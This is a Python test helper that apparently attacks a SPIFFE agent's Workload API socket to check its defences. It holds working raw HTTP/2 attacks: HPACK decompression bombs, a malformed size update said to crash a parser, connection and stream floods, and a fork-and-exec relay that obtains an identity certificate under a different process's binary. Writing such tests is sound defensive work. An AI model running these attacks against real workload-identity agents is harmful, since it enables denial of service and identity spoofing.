"""A local attacker against the agent's Workload API socket, run under an
unprivileged uid by the tests (`setpriv --reuid 65534 ...`). Speaks raw HTTP/2
where a well-behaved client library would refuse to misbehave.

Usage: wl_attacker.py ATTACK SOCKET [ARGS...]; prints one JSON line.

  hpack-bomb SOCK                 three header blocks that expand or break HPACK
  idle-flood SOCK N               N idle connections, held until stdin closes
  stream-flood SOCK N             N FetchX509SVID streams on one connection, never read
  denied-flood SOCK N             N FetchJWTSVID calls, one after the other
  exec-relay SOCK                 connect, fork, parent execs /usr/bin/sleep, child relays
"""
from __future__ import annotations

import json
import os
import resource
import select
import socket
import struct
import sys
import tempfile
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, CONTINUATION = 0x0, 0x1, 0x4, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(typ: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([typ, flags]) + struct.pack(">I", stream) + payload


def hpack_int(n: int, first: int, v: int) -> bytes:
    top = (1 << n) - 1
    if v < top:
        return bytes([first | v])
    out, v = bytearray([first | top]), v - top
    while v >= 128:
        out.append(v % 128 | 0x80)
        v //= 128
    out.append(v)
    return bytes(out)


def hpack_str(s: bytes) -> bytes:
    return hpack_int(7, 0, len(s)) + s


def literal(name: bytes, value: bytes, index: bool = False) -> bytes:
    return bytes([0x40 if index else 0x00]) + hpack_str(name) + hpack_str(value)


def header_frames(stream: int, block: bytes, end_stream: bool) -> bytes:
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)] or [b""]
    out = b""
    for i, c in enumerate(chunks):
        flags = (END_HEADERS if i == len(chunks) - 1 else 0) | (END_STREAM if i == 0 and end_stream else 0)
        out += frame(HEADERS if i == 0 else CONTINUATION, flags, stream, c)
    return out


def grpc_request(stream: int, method: str, message: bytes = b"") -> bytes:
    block = b"".join(literal(n, v) for n, v in [
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", f"/SpiffeWorkloadAPI/{method}".encode()),
        (b":authority", b"localhost"), (b"content-type", b"application/grpc"), (b"te", b"trailers"),
        (b"workload.spiffe.io", b"true"),
    ])
    body = b"\x00" + struct.pack(">I", len(message)) + message
    return header_frames(stream, block, False) + frame(DATA, END_STREAM, stream, body)


def connect(sock_path: str) -> socket.socket:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(sock_path)
    return s


def closed_by_peer(s: socket.socket, timeout: float) -> bool:
    """Reads (and discards) until the peer closes or `timeout` passes."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        r, _, _ = select.select([s], [], [], max(0.0, deadline - time.time()))
        if not r:
            continue
        try:
            if not s.recv(65536):
                return True
        except (ConnectionResetError, BrokenPipeError):
            return True
    return False


def raise_fd_limit():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


# ------------------------------------------------------------------ attacks

def hpack_bomb(sock_path: str) -> dict:
    """Each block fits the 64 KiB header-block limit but expands without bound."""
    entry = literal(b"x-bomb", b"a" * 4000, index=True)
    references = entry + b"\xbe" * (64 * 1024 - len(entry))  # dynamic entry 62, 60k times
    grow = hpack_int(5, 0x20, 1 << 30) + b"".join(literal(b"x-g", os.urandom(6000).hex().encode(), index=True) for _ in range(5))
    truncated_size_update = b"\x82\x3f"  # what made fluke-hpack 0.3 panic
    out = {}
    for name, block in [("references", references), ("table_growth", grow), ("truncated_size_update", truncated_size_update)]:
        s = connect(sock_path)
        s.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + header_frames(1, block, True))
        out[name] = "closed" if closed_by_peer(s, 5) else "open"
        s.close()
    return out


def idle_flood(sock_path: str, n: int) -> None:
    raise_fd_limit()
    conns, refused = [], 0
    for _ in range(n):
        try:
            conns.append(connect(sock_path))
        except OSError:
            refused += 1
    time.sleep(1.0)
    open_ = 0
    for s in conns:
        s.setblocking(False)
        try:
            open_ += 1 if s.recv(1, socket.MSG_PEEK) else 0
        except BlockingIOError:
            open_ += 1
        except OSError:
            pass
    print(json.dumps({"attempted": n, "connect_refused": refused, "held_open": open_}), flush=True)
    sys.stdin.read()  # hold until the test closes our stdin
    for s in conns:
        s.close()


def stream_flood(sock_path: str, n: int) -> dict:
    s = connect(sock_path)
    # Advertise the largest windows so the agent may send everything; never read.
    settings = struct.pack(">HI", 0x4, (1 << 31) - 1)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(0x8, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)))
    s.setblocking(False)
    sent = 0
    deadline = time.time() + 20
    pending = b""
    for i in range(n):
        pending += grpc_request(1 + 2 * i, "FetchX509SVID")
        if len(pending) > 32768 or i == n - 1:
            while pending and time.time() < deadline:
                try:
                    pending = pending[s.send(pending):]
                except BlockingIOError:
                    time.sleep(0.01)
                except OSError:
                    return {"streams": sent, "closed_by_agent": True}
            sent = i + 1
    time.sleep(2)
    s.close()
    return {"streams": sent, "closed_by_agent": False}


def denied_flood(sock_path: str, n: int) -> dict:
    import grpc
    from spiffe._proto import workload_pb2, workload_pb2_grpc

    codes: dict[str, int] = {}
    start = time.time()
    with grpc.insecure_channel(f"unix:{sock_path}") as ch:
        stub = workload_pb2_grpc.SpiffeWorkloadAPIStub(ch)
        for _ in range(n):
            try:
                stub.FetchJWTSVID(workload_pb2.JWTSVIDRequest(audience=["a"]), metadata=[("workload.spiffe.io", "true")], timeout=10)
                code = "OK"
            except grpc.RpcError as e:
                code = e.code().name
            codes[code] = codes.get(code, 0) + 1
    return {"calls": n, "codes": codes, "seconds": round(time.time() - start, 2)}


def exec_relay(sock_path: str) -> None:
    """The connecting process becomes /usr/bin/sleep; its forked child, which
    keeps the connection, asks for an SVID through it."""
    conn = connect(sock_path)
    r, w = os.pipe()
    if os.fork() != 0:
        # Parent: wait until the child is ready, then turn into `sleep`.
        os.close(w)
        os.read(r, 1)
        os.execv("/usr/bin/sleep", ["sleep", "30"])
    os.close(r)
    os.write(w, b"x")
    # Child: wait until the parent runs `sleep`, then relay the inherited
    # connection to a private socket that py-spiffe connects to.
    ppid = os.getppid()
    deadline = time.time() + 10
    while time.time() < deadline and os.readlink(f"/proc/{ppid}/exe") != "/usr/bin/sleep":
        time.sleep(0.01)
    relay_dir = tempfile.mkdtemp()
    relay_path = os.path.join(relay_dir, "relay.sock")
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(relay_path)
    srv.listen(1)

    def pump(a: socket.socket, b: socket.socket):
        try:
            while data := a.recv(65536):
                b.sendall(data)
        except OSError:
            pass

    def serve():
        c, _ = srv.accept()
        threading.Thread(target=pump, args=(c, conn), daemon=True).start()
        pump(conn, c)

    threading.Thread(target=serve, daemon=True).start()
    from spiffe import WorkloadApiClient

    out = {"parent_exe": os.readlink(f"/proc/{ppid}/exe")}
    try:
        with WorkloadApiClient(f"unix://{relay_path}", default_timeout=10) as c:
            out["x509_spiffe_id"] = str(c.fetch_x509_svid().spiffe_id)
    except Exception as e:  # noqa: BLE001 - report what we got
        out["error"] = f"{type(e).__name__}: {e}"
    os.kill(ppid, 15)
    print(json.dumps(out), flush=True)
    os._exit(0)


if __name__ == "__main__":
    attack, sock = sys.argv[1], sys.argv[2]
    if attack == "hpack-bomb":
        print(json.dumps(hpack_bomb(sock)))
    elif attack == "idle-flood":
        idle_flood(sock, int(sys.argv[3]))
    elif attack == "stream-flood":
        print(json.dumps(stream_flood(sock, int(sys.argv[3]))))
    elif attack == "denied-flood":
        print(json.dumps(denied_flood(sock, int(sys.argv[3]))))
    elif attack == "exec-relay":
        exec_relay(sock)
    else:
        sys.exit(f"unknown attack {attack}")
